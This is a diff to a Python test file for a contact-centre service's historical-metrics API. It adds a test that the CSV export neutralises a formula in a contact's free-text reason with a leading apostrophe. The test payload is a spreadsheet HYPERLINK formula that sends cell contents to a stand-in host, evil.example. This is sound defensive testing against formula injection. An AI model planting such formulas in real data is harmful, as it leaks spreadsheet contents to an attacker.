@@ -48,11 +48,11 @@ def _ms(iso: str) -> int:
     return int(datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() * 1000)
 
 
-def serve_chat(tenant, env, messages=()) -> dict:
+def serve_chat(tenant, env, messages=(), reason: str = "billing") -> dict:
     """A chat contact through the real handlers: API, AwaitAgent step, agent actions, messages, then the
     two post-contact steps exactly as the PostContact workflow invokes them."""
     assert api("PUT", "/agents/ana/status", tenant.id, {"status": "AVAILABLE"})[0] == 200
-    status, contact, _ = api("POST", "/contacts", tenant.id, {"channel": "CHAT", "queue_id": "sales", "customer_id": "cust-9", "reason": "billing"})
+    status, contact, _ = api("POST", "/contacts", tenant.id, {"channel": "CHAT", "queue_id": "sales", "customer_id": "cust-9", "reason": reason})
     assert status == 201, contact
     cid = contact["contact_id"]
     env("route_contact")
@@ -123,6 +123,22 @@ def test_a_served_contact_shows_up_in_historical_metrics_with_its_numbers(tenant
     status, bad, _ = api("GET", "/metrics/historical", tenant.id, query={**query, "fields": "handled,colour"})
     assert status == 422 and bad["field"] == "fields" and "colour" in bad["message"]
     assert summary["contact_type_mix"] == {"billing": 1.0} and summary["busiest_intervals"][0][1] == 1
+
+
+def test_a_reason_that_is_a_formula_reaches_the_csv_export_as_text(tenant, env):
+    """A contact's reason is free text (an integration or a flow sends it): in the CSV a supervisor opens in a
+    spreadsheet it is text, never a formula (a leading apostrophe); the JSON keeps it as sent."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    done = serve_chat(tenant, env, reason=formula)
+    query = {"from": _iso(_ms(done["enqueued_at"]) - 3_600_000), "to": _iso(_ms(done["acw_ended_at"]) + 3_600_000),
+             "interval": "day", "group_by": "reason"}
+    status, report, _ = api("GET", "/metrics/historical", tenant.id, query=query)
+    assert status == 200 and [r["reason"] for r in report["rows"] if r["offered"]] == [formula]
+    for extra in ({}, {"compact": "true"}):
+        status, text, _ = api("GET", "/metrics/historical", tenant.id, query={**query, **extra, "format": "csv"})
+        assert status == 200, text
+        (line,) = [r for r in csv.DictReader(io.StringIO(text)) if r["offered"] == "1"]
+        assert line["reason"] == "'" + formula, line
 
 
 def test_historical_query_parameters_are_validated_naming_the_field(tenant):
